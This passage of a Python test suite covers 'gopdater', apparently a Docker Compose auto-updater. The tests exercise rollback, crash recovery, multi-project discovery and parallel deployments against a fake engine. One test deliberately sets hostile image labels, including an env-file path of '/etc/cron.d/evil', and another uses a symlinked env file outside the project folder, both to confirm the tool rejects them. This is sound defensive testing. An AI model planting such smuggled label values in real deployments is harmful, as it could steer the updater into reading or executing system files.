                if not worker_runs:
                    fake.cannot_run.add(("worker", NEW_ID))
                rig = Rig(self, fake)
                deployment = self.deploy(rig)
                self.assertEqual(deployment.state, state, deployment.error)
                web_steps = [s.step for s in deployment.steps if s.service == "web"]
                self.assertIn("create", web_steps)
                self.assertEqual(self.images(rig), {"web": web, "worker": web})

    def test_the_hook_is_answered_with_the_one_deployment_and_both_services(self):
        """202 names one deployment (no ids list) and both services."""
        rig = self.rig()
        status, reply, _ = rig.post(f"/hooks/{SECRET}", payload("dockerhub-push.json"))
        self.assertEqual((status, reply["services"], "ids" in reply), (202, ["demo/web", "demo/worker"], False))

    def test_a_failure_at_any_point_leaves_both_on_the_previous_image(self):
        """A pull, a pre-update, a migrate, the first switch, the second, a post-update or a dependent that fails:
        both services end on the old image, the deployment names the service that failed, and what ran before
        the first switch changed nothing."""
        steps = {"gopdater.pre-update": "dump", "gopdater.migrate": "migrate", "gopdater.post-update": "smoke"}
        cases = [
            ("pull", lambda f: f.fail.update({("docker", "compose", "pull"): (1, "manifest unknown")}), "failed",
             "web: pull failed"),
            ("pre-update", lambda f: f.fail.update({("docker", "exec"): (1, "dump failed")}), "failed",
             "web: pre-update failed"),
            ("migrate", lambda f: f.fail.update({("docker", "compose", "run"): (1, "no schema")}), "failed",
             "web: migrate failed"),
            ("first switch", lambda f: f.cannot_run.add(("web", NEW_ID)), "rolled-back", "web: container demo-web-"),
            ("second switch", lambda f: f.cannot_run.add(("worker", NEW_ID)), "rolled-back",
             "worker: container demo-worker-"),
            ("post-update", lambda f: f.fail_if.append((("docker", "exec"), lambda fake: any(
                c["image_id"] == NEW_ID and c["service"] == "worker" for c in fake.containers.values()), 1, "smoke")),
             "rolled-back", "web: post-update failed"),
        ]
        for name, breaks, state, reason in cases:
            with self.subTest(failing=name):
                fake = FakeDocker(services=dict(GROUP))
                for service in GROUP:
                    fake.file_labels[("demo", service)] = dict(steps)
                breaks(fake)
                rig = Rig(self, fake)
                deployment = self.deploy(rig)
                self.assertEqual(deployment.state, state, deployment.error)
                self.assertIn(reason, deployment.error)
                self.assertEqual(self.images(rig), {"web": OLD_ID, "worker": OLD_ID})
                self.assertEqual(fake.images["acme/site:latest"], OLD_ID, "the image name points back")

    def test_a_dependent_that_fails_rolls_both_back(self):
        """An app in web's network namespace cannot be recreated: web and worker both go back."""
        fake = FakeDocker(services={**GROUP, "app": "acme/app:latest"})
        fake.network_modes[("demo", "app")] = "web"
        for c in [c for c in fake.containers.values() if c["service"] == "app"]:
            del fake.containers[c["id"]]
        fake.create("demo", "app")
        fake.fail_if.append((tuple(RECREATE_APP), lambda f: any(c["image_id"] == NEW_ID for c in f.containers.values()
                                                                 if c["service"] == "web"), 1, "no such container"))
        rig = Rig(self, fake)
        deployment = self.deploy(rig)
        self.assertEqual(deployment.state, "rolled-back")
        self.assertIn("web: dependent app failed", deployment.error)
        self.assertEqual({k: v for k, v in self.images(rig).items() if k != "app"}, {"web": OLD_ID, "worker": OLD_ID})

    def test_a_crash_at_any_journalled_step_is_repaired_to_one_version(self):
        """Killed right after each journalled command of the group: the next start leaves both services on one
        version (the previous one), their journal record closed."""
        cuts = [(("docker", "compose", "pull"), 1), (("docker", "exec"), 1), (("docker", "compose", "run"), 2),
                (("docker", "stop"), 1), (("docker", "rm"), 1), (("docker", "compose", "up"), 1),
                (("docker", "stop"), 2), (("docker", "rm"), 2), (("docker", "compose", "up"), 2),
                (("docker", "exec"), 3)]
        for prefix, nth in cuts:
            with self.subTest(cut_after=prefix, nth=nth):
                fake = FakeDocker(services=dict(GROUP))
                for service in GROUP:
                    fake.file_labels[("demo", service)] = {"gopdater.pre-update": "dump",
                                                           "gopdater.migrate": "migrate", "gopdater.post-update": "smoke"}
                rig = Rig(self, fake)
                rig.queue.submit(gopdater.PushEvent("dockerhub", gopdater.parse_reference("acme/site")))
                cut(self, rig, prefix, nth)
                queue = restart(self, rig)
                view = queue.views()[0]
                self.assertIn(view["state"], ("recovered", "rolled-back"), view)
                if prefix != ("docker", "compose", "pull"):  # the members are journalled once planned
                    self.assertEqual([m["service"] for m in view["services"]], ["web", "worker"])
                self.assertEqual(self.images(rig), {"web": OLD_ID, "worker": OLD_ID})
                self.assertEqual(gopdater.Journal(rig.state_dir).load()[0], [], "the journal is closed")


class CrashRecoveryTest(unittest.TestCase):
    def cut(self, rig, prefix, nth=1):
        """Queue a deployment of site and run it, killed right after the nth call starting with prefix."""
        rig.queue.submit(gopdater.PushEvent("dockerhub", gopdater.parse_reference("acme/site")))
        cut(self, rig, prefix, nth)

    def restart(self, rig):
        return restart(self, rig)

    def running_image(self, rig):
        running = [c for c in rig.fake.containers.values() if not c["stopped"]]
        self.assertEqual(len(running), 1, rig.fake.containers)
        return running[0]["image_id"]

    def test_cut_at_each_step_of_an_update_ends_on_the_new_image(self):
        """Killed after the pull, stop, remove, up or during the wait, the next start serves the new image."""
        cases = [(("docker", "compose", "pull"), 1, OLD_ID, "it was still running; left as it was"),
                 (("docker", "stop"), 1, NEW_ID, "the new image now runs healthy"),
                 (("docker", "rm"), 1, NEW_ID, "the new image now runs healthy"),
                 (("docker", "compose", "up"), 1, NEW_ID, "the new image was running healthy"),
                 (("docker", "inspect"), 2, NEW_ID, "the new image was running healthy")]
        for prefix, nth, image, reason in cases:
            with self.subTest(cut_after=prefix):
                rig = Rig(self, NOTIFY_URL="http://127.0.0.1:9/hook", NOTIFY_ON="recovered")
                self.cut(rig, prefix, nth)
                queue = self.restart(rig)
                view = queue.views()[0]
                self.assertEqual((view["sender"], view["state"], view["project"], view["service"]),
                                 ("recovery", "recovered", "demo", "site"))
                self.assertEqual(self.running_image(rig), image)
                self.assertEqual((rig.notices[-1][1]["result"], rig.notices[-1][1]["reason"]), ("recovered", reason))
                self.assertEqual(gopdater.Journal(rig.state_dir).load()[0], [], "the journal is closed")

    def test_a_broken_new_image_found_at_recovery_is_rolled_back(self):
        """Killed after up of an image that crashes, the next start rolls back to the old image."""
        rig = Rig(self)
        rig.fake.registry["acme/site:latest"] = BROKEN_ID
        self.cut(rig, ("docker", "compose", "up"))
        queue = self.restart(rig)
        self.assertEqual(queue.views()[0]["state"], "rolled-back")
        self.assertEqual(self.running_image(rig), OLD_ID)

    def test_cut_at_each_rollback_step_ends_on_the_old_image(self):
        """Killed during the rollback (tag, stop, remove, up, its wait), the next start finishes the rollback."""
        cases = [(("docker", "tag"), 1), (("docker", "stop"), 2), (("docker", "rm"), 2),
                 (("docker", "compose", "up"), 2), (("docker", "inspect"), 4)]
        for prefix, nth in cases:
            with self.subTest(cut_after=prefix, nth=nth):
                rig = Rig(self)
                rig.fake.registry["acme/site:latest"] = BROKEN_ID
                self.cut(rig, prefix, nth)
                self.assertIn(gopdater.Journal(rig.state_dir).load()[0][0].stage.value, (
                    "rollback-tag", "rollback-stop", "rollback-remove", "rollback-up"))
                queue = self.restart(rig)
                self.assertEqual(queue.views()[0]["state"], "rolled-back")
                self.assertEqual(self.running_image(rig), OLD_ID)

    def test_new_image_gone_at_recovery_rolls_back(self):
        """If the pulled image was removed before the next start, recovery brings the old one back."""
        rig = Rig(self)
        self.cut(rig, ("docker", "rm"))
        rig.fake.deleted.add(NEW_ID)
        rig.fake.images["acme/site:latest"] = "sha256:" + "9" * 64  # the tag points elsewhere now
        queue = self.restart(rig)
        self.assertEqual(queue.views()[0]["state"], "rolled-back")
        self.assertEqual(self.running_image(rig), OLD_ID)

    def test_recovery_touches_only_the_service_its_record_names(self):
        """With two services, a cut update of site is recovered without a command that names api."""
        rig = Rig(self, FakeDocker(services={"site": "acme/site:latest", "api": "acme/api:latest"}))
        self.cut(rig, ("docker", "rm"))
        self.restart(rig)
        mutating = rig.fake.mutating_calls()
        self.assertTrue(mutating)
        self.assertFalse([c for c in mutating if "api" in c or "demo-api-1" in c], mutating)

    def test_a_service_nothing_cut_off_is_never_touched_at_start(self):
        """An empty journal means no recovery and no command at start."""
        rig = Rig(self)
        rig.deploy()
        rig.fake.calls.clear()
        queue = rig.new_queue(gopdater.Journal(rig.state_dir))
        self.assertEqual(queue.restore(), 0)
        self.assertEqual(rig.fake.calls, [])

    def test_the_engine_going_away_mid_update_is_waited_for_then_the_update_goes_on(self):
        """Commands that find no engine make the update wait for it, then recover from the journal."""
        rig = Rig(self)
        rig.fake.then[("docker", "rm")] = lambda fake: setattr(fake, "engine_down_until", rig.clock() + 30)
        with self.assertLogs("gopdater", "INFO") as logs:
            deployment = rig.deploy()
        self.assertEqual((deployment.state, self.running_image(rig)), ("recovered", NEW_ID))
        self.assertTrue(any("stopped answering" in line for line in logs.output))
        self.assertGreaterEqual(sum(c[:2] == ["docker", "version"] for c in rig.fake.calls), 2, "it probed")

    def test_an_engine_that_stays_away_leaves_the_journal_for_the_next_start(self):
        """After ENGINE_WAIT without an engine the update fails, and the next start recovers it."""
        rig = Rig(self, ENGINE_WAIT=20)
        for prefix in (("docker", "rm"), ("docker", "version")):
            rig.fake.fail[prefix] = (1, "Cannot connect to the Docker daemon")
        with self.assertLogs("gopdater", "INFO"):
            deployment = rig.deploy()
        self.assertEqual(deployment.state, "failed")
        self.assertIn("did not answer for 20s", deployment.error)
        self.assertEqual(len(gopdater.Journal(rig.state_dir).load()[0]), 1, "the record stays")
        rig.fake.fail.clear()
        self.assertEqual(self.restart(rig).views()[0]["state"], "recovered")

    def test_history_survives_a_restart(self):
        """The last deployments are shown again after a restart, newest first."""
        rig = Rig(self)
        first = rig.deploy()
        rig.fake.registry["acme/site:latest"] = "sha256:" + "4" * 64
        rig.fake.behaviour["sha256:" + "4" * 64] = "healthy"
        second = rig.deploy()
        queue = rig.new_queue(gopdater.Journal(rig.state_dir))
        queue.restore()
        self.assertEqual([v["id"] for v in queue.views()], [second.id, first.id])
        self.assertEqual(queue.views()[0]["state"], "updated")

    def test_a_corrupt_state_file_is_moved_aside_and_gopdater_starts(self):
        """Unreadable journal and history files are moved aside with a warning; start-up goes on."""
        folder = state_folder(self)
        for name in ("journal.json", "history.json"):
            pathlib.Path(folder, name).write_text("{torn")
        with self.assertLogs("gopdater", "WARNING") as logs:
            self.assertEqual(gopdater.Journal(folder).load(), ([], []))
        self.assertEqual(sum("moved aside" in line for line in logs.output), 2)
        self.assertEqual(sorted(p.name.split(".corrupt-")[0] for p in pathlib.Path(folder).iterdir()),
                         ["history.json", "journal.json"])

    def test_a_state_dir_that_cannot_be_written_stops_deployments_not_gopdater(self):
        """STATE_DIR unwritable: --check says how to fix it, and a deployment fails before any command."""
        blocker = pathlib.Path(state_folder(self), "a-file")
        blocker.write_text("")
        bad = str(blocker / "state")
        problem = gopdater.Journal(bad).problem()
        self.assertTrue(problem.startswith(f"STATE_DIR {bad} cannot be written"), problem)
        self.assertIn("set STATE_DIR", problem)
        code, out = check(self, FakeDocker(), STATE_DIR=bad)
        self.assertEqual(code, 1)
        self.assertIn(f"FAIL STATE_DIR {bad} cannot be written", out)
        rig = Rig(self, STATE_DIR=bad)
        with self.assertLogs("gopdater", "ERROR"):
            deployment = rig.deploy()
        self.assertEqual(deployment.state, "failed")
        self.assertIn("journal in STATE_DIR cannot be written", deployment.error)
        self.assertEqual(rig.fake.mutating_calls(), [])


# ---------------------------------------------------------------------------------------------
# Every Compose project on the host
# ---------------------------------------------------------------------------------------------


class ProjectsTest(unittest.TestCase):
    def host(self, projects=None, folders=("blog", "shop"), compose=("docker", "compose"), **env):
        """A rig over a fake engine with several projects, each with a folder and compose.yaml here."""
        root = state_folder(self)
        for name in folders:
            os.makedirs(os.path.join(root, name))
            pathlib.Path(root, name, "compose.yaml").write_text("services: {}\n")
        fake = FakeDocker(projects=projects or {"blog": {"site": "acme/site:latest"},
                                                "shop": {"site": "acme/site:latest", "api": "acme/api:latest"}},
                          root=root, compose=compose)
        env.setdefault("PROJECTS", "*")
        return Rig(self, fake, **env), root

    def test_every_project_is_found_and_run_in_its_own_folder_with_its_own_name(self):
        """PROJECTS=* finds each project from its labels; Compose runs with its name, files and folder."""
        rig, root = self.host()
        self.assertEqual(project_names(rig.project), ["blog", "shop"])
        rig.fake.calls.clear()
        rig.fake.call_kwargs.clear()
        rig.project.refresh()
        compose = [kwargs for argv, kwargs in zip(rig.fake.calls, rig.fake.call_kwargs) if argv[:2] == ["docker", "compose"]]
        seen = {kwargs["env"]["COMPOSE_PROJECT_NAME"]: (kwargs["env"]["COMPOSE_FILE"], kwargs["env"]["PWD"], kwargs["cwd"])
                for kwargs in compose}
        self.assertEqual(seen, {name: (f"{root}/{name}/compose.yaml", f"{root}/{name}", f"{root}/{name}")
                                for name in ("blog", "shop")})

    def test_a_container_removed_between_listing_and_inspecting_is_left_out(self):
        """On a busy host a container listed by ps may be gone by the inspect: the others are still read."""
        rig, _ = self.host()
        gone = next(cid for cid, c in rig.fake.containers.items() if c["project"] == "blog")
        rig.fake.then[("docker", "ps")] = lambda fake: fake.containers.pop(gone)
        rig.project.refresh()
        self.assertEqual(project_names(rig.project), ["shop"])

    def test_a_container_whose_image_is_removed_between_listing_and_reading_is_left_out(self):
        """On a busy host an image may be removed (with its container) between the listing and the reading of its
        labels: that container is left out, the others are still read, and the listing does not fail."""
        rig, _ = self.host()
        (gone,) = [c for c in rig.fake.containers.values() if c["project"] == "blog"]
        gone["image_id"] = OLDER_ID  # an image of its own, removed right after the containers are inspected
        rig.fake.then[("docker", "inspect")] = lambda fake: fake.deleted.add(OLDER_ID)
        rig.project.refresh()
        self.assertEqual(project_names(rig.project), ["shop"])

    def test_a_push_updates_the_service_in_every_project_that_runs_it(self):
        """acme/site updates blog/site and shop/site, one deployment each; acme/api only shop/api."""
        rig, _ = self.host()
        hub = payload("dockerhub-push.json")
        status, reply, _ = rig.post(f"/hooks/{SECRET}", hub)
        self.assertEqual((status, reply["services"], len(reply["ids"])), (202, ["blog/site", "shop/site"], 2))
        rig.start_worker()
        self.assertTrue(rig.queue.wait_idle(10))
        views = {f"{v['project']}/{v['service']}": v for v in rig.queue.views()}
        self.assertEqual({k: v["state"] for k, v in views.items()}, {"blog/site": "updated", "shop/site": "updated"})
        self.assertEqual(sorted((c["project"], c["image_id"]) for c in rig.fake.containers.values()
                                if c["service"] == "site"), [("blog", NEW_ID), ("shop", NEW_ID)])
        status, reply, _ = rig.post(f"/hooks/{SECRET}", {**hub, "repository": {"repo_name": "acme/api"}})
        self.assertEqual(reply["services"], ["shop/api"])

    def test_cleanup_never_removes_an_image_another_project_runs(self):
        """The image blog kept before stays while shop still runs it (PARALLEL=1: in turn), and shop keeps it in
        turn for its own rollback."""
        rig, _ = self.host({"blog": {"site": "acme/site:latest"}, "shop": {"site": "acme/site:latest"}},
                           PARALLEL=1)
        next(c for c in rig.fake.containers.values() if c["project"] == "shop")["image_id"] = OLDER_ID
        rig.kept_before(project="blog")
        rig.post(f"/hooks/{SECRET}", payload("dockerhub-push.json"))
        rig.start_worker()
        self.assertTrue(rig.queue.wait_idle(10))
        cleanup = {v["project"]: [s["result"] for s in v["steps"] if s["step"] == "cleanup"]
                   for v in rig.queue.views()}
        self.assertEqual(cleanup, {"blog": ["kept"], "shop": []})
        self.assertEqual([rig.journal.previous(f"compose:{p}/site") for p in ("blog", "shop")],
                         [gopdater.Previous(OLD_ID), gopdater.Previous(OLDER_ID)])

    def test_the_enable_label_keeps_services_out_or_lets_only_marked_ones_in(self):
        """gopdater.enable=false keeps a service out always; LABEL_ENABLE=1 updates only those labelled true."""
        rig, _ = self.host()
        rig.fake.labels[("shop", "site")] = {"gopdater.enable": "false"}
        rig.project.refresh()
        hub = payload("dockerhub-push.json")
        self.assertEqual(rig.post(f"/hooks/{SECRET}", hub)[1]["services"], ["blog/site"])
        rig, _ = self.host(LABEL_ENABLE=1)
        rig.fake.labels[("shop", "site")] = {"gopdater.enable": "true"}
        rig.project.refresh()
        self.assertEqual(rig.post(f"/hooks/{SECRET}", hub)[1]["services"], ["shop/site"])
        code, out = check(self, rig.fake, PROJECTS="*", LABEL_ENABLE=1)
        self.assertIn("service blog/site: not labelled gopdater.enable=true (LABEL_ENABLE=1), never updated", out)

    def test_labels_an_image_carries_change_nothing(self):
        """An image carrying gopdater.enable, gopdater.order, gopdater.hook-timeout or the env file label, on
        Compose v1 and v2: the service is updated as if it carried none, stop-first, its release step within the
        default time, and Compose runs with no --env-file."""
        carried = {"gopdater.enable": "false", "gopdater.order": "start-first", "gopdater.hook-timeout": "1e300",
                   "com.docker.compose.project.environment_file": "/etc/cron.d/evil"}
        for compose in ("docker compose", "docker-compose"):
            with self.subTest(compose=compose):
                rig, _ = self.host(projects={"blog": {"site": "acme/site:latest"}}, folders=("blog",),
                                   compose=tuple(compose.split()), COMPOSE_COMMAND=compose)
                rig.fake.image_labels[OLD_ID] = carried
                rig.fake.labels[("blog", "site")] = {"gopdater.pre-update": "true"}
                rig.project.refresh()
                self.assertIn("service blog/site: release steps: pre-update 'true' (each within 300s)",
                              findings(rig.project))
                self.assertFalse([line for line in findings(rig.project) if "start-first" in line])
                with self.assertLogs("gopdater", "INFO"):
                    self.assertEqual(rig.deploy().state, "updated")
                self.assertFalse([c for c in rig.fake.calls if "--env-file" in c or "/etc/cron.d/evil" in c])
                self.assertFalse([c for c in rig.fake.calls if c[1:3] == ["network", "disconnect"]], "stop-first")

    def test_an_env_file_outside_the_project_folder_is_never_used(self):
        """An env file Compose was started with that lies outside the project's folder, by path or by a link:
        the project is skipped, naming the file, and no Compose command runs with it."""
        for name, started_with in (("a path outside", "../shared.env"), ("a link outside", "linked.env")):
            with self.subTest(name):
                rig, root = self.host(projects={"blog": {"site": "acme/site:latest"}}, folders=("blog",))
                pathlib.Path(root, "shared.env").write_text("SECRET=1\n")
                os.symlink(os.path.join(root, "shared.env"), os.path.join(root, "blog", "linked.env"))
                rig.fake.labels[("blog", "site")] = {"com.docker.compose.project.environment_file": started_with}
                rig.fake.calls.clear()
                rig.project.refresh()
                self.assertEqual(project_names(rig.project), [])
                self.assertIn(f"project blog is skipped: its env file {root}/blog/{started_with} lies outside its "
                              f"folder {root}/blog", "\n".join(findings(rig.project)))
                self.assertFalse([c for c in rig.fake.calls if "--env-file" in c])
        pathlib.Path(root, "blog", "prod.env").write_text("")
        inside = gopdater.ComposeLocation("blog", "", None, "", f"{root}/blog", "", None, (f"{root}/blog/prod.env",))
        self.assertIsNone(gopdater.unreadable(rig.config, inside))

    def test_a_project_whose_folder_is_not_visible_is_reported_and_skipped(self):
        """A project whose folder this process cannot see is skipped, and --check says which mount is missing."""
        rig, root = self.host(folders=("shop",))
        self.assertEqual(project_names(rig.project), ["shop"])
        code, out = check(self, rig.fake, PROJECTS="*")
        self.assertEqual(code, 1)
        self.assertIn(f"FAIL project blog is skipped: its folder {root}/blog is not visible here: mount it at the "
                      f"same path, e.g. -v {root}:{root}", out)
        self.assertEqual(rig.post(f"/hooks/{SECRET}", payload("dockerhub-push.json"))[1]["services"], ["shop/site"])

    def test_projects_named_are_the_only_ones_updated(self):
        """PROJECTS=blog leaves shop alone."""
        rig, _ = self.host(PROJECTS="blog")
        self.assertEqual(rig.post(f"/hooks/{SECRET}", payload("dockerhub-push.json"))[1]["services"], ["blog/site"])

    def test_services_may_name_a_project_and_a_bare_name_must_be_unambiguous(self):
        """SERVICES=acme/x=shop/site maps into shop; a bare site in two projects stops start-up."""
        rig, _ = self.host(SERVICES="acme/x=shop/site")
        body = {**payload("dockerhub-push.json"), "repository": {"repo_name": "acme/x"}}
        self.assertEqual(rig.post(f"/hooks/{SECRET}", body)[1]["services"], ["shop/site"])
        with self.assertRaises(gopdater.ConfigError) as caught:
            self.host(SERVICES="acme/x=site")
        self.assertEqual(str(caught.exception), "SERVICES names site, a service of blog and shop: write "
                                                "PROJECT/SERVICE, e.g. blog/site")
        self.assertEqual(self.host(SERVICES="acme/x=api")[0].project.services_for(
            gopdater.parse_reference("acme/x")), [gopdater.ServiceRef("compose", "shop", "api")])

    def test_a_project_started_later_is_found_soon_after_a_hook_for_it(self):
        """A new project is found by the refresh an unmatched authentic hook asks for."""
        rig, root = self.host(REFRESH_INTERVAL=3600)
        rig.start_worker()
        os.makedirs(os.path.join(root, "wiki"))
        pathlib.Path(root, "wiki", "compose.yaml").write_text("services: {}\n")
        rig.fake.projects["wiki"] = {"web": "acme/wiki:latest"}
        rig.fake.images["acme/wiki:latest"] = OLD_ID
        rig.fake.registry["acme/wiki:latest"] = NEW_ID
        rig.fake.create("wiki", "web")
        body = {**payload("dockerhub-push.json"), "repository": {"repo_name": "acme/wiki"}}
        self.assertEqual(rig.post(f"/hooks/{SECRET}", body)[1]["status"], "ignored")
        rig.fake.config_read.clear()
        rig.clock.sleep(10)
        self.assertTrue(rig.fake.config_read.wait(5))
        self.assertTrue(rig.queue.wait_idle(5))
        self.assertEqual(rig.post(f"/hooks/{SECRET}", body)[1]["services"], ["wiki/web"])


# ---------------------------------------------------------------------------------------------
# Start-first updates for services behind a reverse proxy
# ---------------------------------------------------------------------------------------------


class ParallelTest(unittest.TestCase):
    """PARALLEL: deployments of different projects side by side, one project's in turn."""

    FLEET = {"blog": {"site": "acme/site:latest"}, "shop": {"site": "acme/site:latest", "web": "acme/site:latest"},
             "wiki": {"site": "acme/site:latest"}}

    def host(self, **env):
        """A rig over three projects (shop with two services) that all run acme/site:latest."""
        root = state_folder(self)
        for name in self.FLEET:
            os.makedirs(os.path.join(root, name))
            pathlib.Path(root, name, "compose.yaml").write_text("services: {}\n")
        return Rig(self, FakeDocker(projects={k: dict(v) for k, v in self.FLEET.items()}, root=root),
                   PROJECTS="*", **env)

    def push(self, rig):
        """A push of acme/site: one deployment per project, queued in the order blog, shop (site and web, as one),
        wiki."""
        submitted = rig.queue.submit(gopdater.PushEvent("dockerhub", gopdater.parse_reference("acme/site")))
        self.assertEqual([[str(ref) for ref in d.refs] for d, _ in submitted],
                         [["blog/site"], ["shop/site", "shop/web"], ["wiki/site"]])
        return {str(d.ref): d for d, _ in submitted}

    def in_thread(self, rig, gate, crash=False):
        """Run the next deployment in a thread of its own until it reaches gate; return the thread."""
        def run():
            try:
                rig.queue.run_next()
            except Crash:
                pass
        thread = threading.Thread(target=run, daemon=True)
        thread.start()
        self.addCleanup(thread.join, 10)
        self.addCleanup(gate.let_go)
        self.assertTrue(gate.started.wait(10), "the deployment reached the gate")
        return thread

    def test_two_projects_update_at_once(self):
        """While blog's update is held mid-pull, shop's runs to the end beside it."""
        rig = self.host()
        deployments = self.push(rig)
        gate = rig.fake.hold(project_call("blog", "docker", "compose", "pull"))
        with self.assertLogs("gopdater", "INFO"):
            held = self.in_thread(rig, gate)
            ran = rig.queue.run_next()
            self.assertEqual((str(ran.ref), ran.state, deployments["blog/site"].state),
                             ("shop/site", gopdater.State.UPDATED, gopdater.State.RUNNING))
            gate.let_go()
            held.join(10)
        self.assertEqual(deployments["blog/site"].state, gopdater.State.UPDATED)

    def test_one_project_never_runs_two_deployments_at_once(self):
        """While shop's deployment is held, a later push's deployment of shop waits; wiki, another project,
        goes ahead of it."""
        rig = self.host()
        self.push(rig)
        rig.queue.run_next()  # blog
        gate = rig.fake.hold(project_call("shop", "docker", "compose", "pull"))
        with self.assertLogs("gopdater", "INFO"):
            held = self.in_thread(rig, gate)
            later = {str(d.ref): d for d, _ in rig.queue.submit(
                gopdater.PushEvent("dockerhub", gopdater.parse_reference("acme/site")))}
            self.assertEqual(str(rig.queue.run_next().ref), "wiki/site")
            while rig.queue.run_next():  # the later push's blog and wiki
                pass
            self.assertEqual(later["shop/site"].state, gopdater.State.QUEUED, "it waits for shop's first")
            gate.let_go()
            held.join(10)
            self.assertEqual(rig.queue.run_next(), later["shop/site"])
        self.assertEqual(later["shop/site"].state.value, "up-to-date")

    def test_no_more_than_parallel_run_at_once(self):
        """PARALLEL=2: with blog and shop held, wiki waits; PARALLEL=1: with blog held, shop waits (the old
        order, one deployment at a time)."""
        for parallel, held_projects, waiting in ((2, ["blog", "shop"], "wiki/site"), (1, ["blog"], "shop/site")):
            with self.subTest(PARALLEL=parallel):
                rig = self.host(PARALLEL=parallel)
                deployments = self.push(rig)
                with self.assertLogs("gopdater", "INFO"):
                    gates = [rig.fake.hold(project_call(p, "docker", "compose", "pull")) for p in held_projects]
                    threads = [self.in_thread(rig, gate) for gate in gates]
                    self.assertIsNone(rig.queue.run_next())
                    self.assertEqual(deployments[waiting].state, gopdater.State.QUEUED)
                    for gate, thread in zip(gates, threads):
                        gate.let_go()
                        thread.join(10)
                    while rig.queue.run_next():
                        pass
                started = [d.ref for d in sorted(deployments.values(), key=lambda d: d.started)]
                self.assertEqual(len(set(d.state for d in deployments.values())), 1)
                if parallel == 1:
                    pulls = [kw["env"]["COMPOSE_PROJECT_NAME"] for call, kw in zip(rig.fake.calls,
                             rig.fake.call_kwargs) if call[2:3] == ["pull"]]
                    self.assertEqual(pulls, ["blog", "shop", "wiki"], started)  # shop's image pulled once

    def test_a_worker_pool_updates_the_fleet_and_rereads_only_what_each_touched(self):
        """With PARALLEL workers every service updates; after each deployment only its service's containers
        are re-read (no listing of the whole host, no compose config)."""
        rig = self.host()
        self.push(rig)
        rig.fake.calls.clear()
        rig.fake.call_kwargs.clear()
        with self.assertLogs("gopdater", "INFO"):
            rig.start_worker()
            self.assertTrue(rig.queue.wait_idle(10))
        self.assertEqual([v["state"] for v in rig.queue.views()], ["updated"] * 3)
        self.assertNotIn(["docker", "ps", "-a", "-q", "--filter", "label=com.docker.compose.project"],
                         rig.fake.calls)
        self.assertEqual([call for call in rig.fake.calls if "config" in call], [])
        lists = collections.Counter(call[-1] for call in rig.fake.calls if call[:2] == ["docker", "ps"])
        self.assertEqual(lists, {"label=com.docker.compose.service=site": 3 * 3, "label=com.docker.compose.service=web": 3},
                         "per deployment: before, after the up, and the re-read after it")

    def test_cleanup_keeps_an_image_an_update_in_flight_may_roll_back_to(self):
        """While blog's old container is removed and its new one not yet judged, shop's cleanup keeps the image
        it kept before (blog ran it): blog's rollback needs it."""
        rig = self.host()
        next(c for c in rig.fake.containers.values() if c["project"] == "blog")["image_id"] = OLDER_ID
        rig.kept_before(project="shop", service="site")
        self.push(rig)
        gate = rig.fake.hold(project_call("blog", "docker", "rm"))
        with self.assertLogs("gopdater", "INFO"):
            held = self.in_thread(rig, gate)
            shop = rig.queue.run_next()
            self.assertEqual([s.result for s in shop.steps if s.step == "cleanup"], ["kept"])
            self.assertNotIn(["docker", "rmi", OLDER_ID], rig.fake.calls)
            gate.let_go()
            held.join(10)

    def test_a_crash_with_three_deployments_in_flight_is_recovered_for_all_three(self):
        """Killed while blog was stopped, shop removed and wiki brought up, the next start repairs all three."""
        rig = self.host()
        self.push(rig)
        gates = [rig.fake.hold(project_call("blog", "docker", "stop")),
                 rig.fake.hold(project_call("shop", "docker", "rm")),
                 rig.fake.hold(project_call("wiki", "docker", "compose", "up"))]
        with self.assertLogs("gopdater", "INFO"):
            threads = [self.in_thread(rig, gate) for gate in gates]
            self.assertEqual(len(gopdater.Journal(rig.state_dir).load()[0]), 3, "three updates in flight")
            for gate, thread in zip(gates, threads):
                gate.let_go(crash=True)
                thread.join(10)
        queue = rig.new_queue(gopdater.Journal(rig.state_dir))
        with self.assertLogs("gopdater", "INFO"):
            self.assertEqual(queue.restore(), 3)
            while queue.run_next():
                pass
        recovered = {f"{v['project']}/{v['service']}": v["state"] for v in queue.views() if v["sender"] == "recovery"}
        self.assertEqual(recovered, {"blog/site": "recovered", "shop/site": "rolled-back", "wiki/site": "recovered"})
        self.assertEqual(gopdater.Journal(rig.state_dir).load()[0], [], "the journal is closed")
        running = sorted((c["project"], c["service"], c["image_id"]) for c in rig.fake.containers.values()
                         if not c["stopped"])
        self.assertEqual(running, [("blog", "site", NEW_ID), ("shop", "site", OLD_ID), ("shop", "web", OLD_ID),
                                   ("wiki", "site", NEW_ID)], "shop's two services on one version")

    def test_sigterm_lets_every_running_deployment_finish_and_cancels_the_rest(self):
        """stop() with blog and shop in flight waits for both (bounded) and cancels what had not started."""
        rig = self.host(PARALLEL=2)
        deployments = self.push(rig)
        gates = [rig.fake.hold(project_call(p, "docker", "compose", "pull")) for p in ("blog", "shop")]
        with self.assertLogs("gopdater", "INFO"):
            threads = [self.in_thread(rig, gate) for gate in gates]
            self.assertFalse(rig.queue.stop(0.05), "two deployments still run")
            for gate in gates:
                gate.let_go()
            self.assertTrue(rig.queue.stop(10))
            for thread in threads:
                thread.join(10)
        self.assertEqual({k: d.state.value for k, d in deployments.items()},
                         {"blog/site": "updated", "shop/site": "updated", "wiki/site": "cancelled"})

    def test_a_project_started_later_is_found_within_seconds_of_any_hook(self):
        """wiki, started after gopdater, is found by the look a hook schedules (10 s on), which reads only the
        new project's Compose file; the next push updates it too."""
        rig = self.host(REFRESH_INTERVAL=3600)
        rig.fake.containers = {k: c for k, c in rig.fake.containers.items() if c["project"] != "wiki"}
        rig.project.refresh()
        self.assertEqual(project_names(rig.project), ["blog", "shop"])
        rig.fake.create("wiki", "site")
        with self.assertLogs("gopdater", "INFO"):
            (first, _), *_ = rig.queue.submit(gopdater.PushEvent("dockerhub", gopdater.parse_reference("acme/site")))
            rig.start_worker()
            self.assertTrue(rig.queue.wait_idle(10))
            rig.fake.calls.clear()
            rig.clock.sleep(10)
            deadline = time.monotonic() + 10
            while "wiki" not in project_names(rig.project):
                self.assertLess(time.monotonic(), deadline, "wiki was found")
                time.sleep(0.01)
            self.assertTrue(rig.queue.wait_idle(10))
        self.assertEqual([call for call in rig.fake.calls if "config" in call], [["docker", "compose", "config",
                                                                                  "--format", "json"]])
        refs = rig.queue.target.services_for(gopdater.parse_reference("acme/site"))
        self.assertIn(gopdater.ServiceRef("compose", "wiki", "site"), refs)

    def test_a_reread_leaves_a_project_with_a_deployment_in_flight_alone(self):
